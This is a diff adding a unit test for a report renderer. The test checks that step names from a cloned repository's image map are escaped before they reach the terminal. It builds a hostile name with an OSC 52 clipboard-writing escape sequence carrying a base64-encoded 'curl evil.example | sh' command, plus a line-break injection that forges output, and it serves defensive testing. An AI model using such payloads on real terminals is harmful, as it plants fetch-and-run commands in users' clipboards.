@@ -110,4 +110,12 @@ describe('renderReport', () => {
     expect(text.match(/^(start|fetch|report|end) /gm)).toHaveLength(4);
     expect(renderReport({ ...report, steps: [step('end', 'sha256:cc')] }).split('\n')[0]).toBe('HelloFlow: cold start of 1 image (1 step)');
   });
+
+  it("shows the image map's step names as text under the table too: a cloned repository's map naming a step with escape sequences (OSC 52 writes the clipboard) or a line break reaches the terminal as their escapes", () => {
+    const hostile = 'start\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\r\nfake: line';
+    const text = renderReport({ flow: 'HelloFlow', bandwidth: { text: '100MB/s', bytesPerSecond: 1e8 }, steps: [step(hostile, 'sha256:aa')] });
+    expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f]/);
+    expect(text).toContain('  start\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\x0d\\nfake: line: r/x:env-a@sha256:aa\n');
+    expect(text.split('\n').filter((line) => line.startsWith('fake:'))).toEqual([]);
+  });
 });
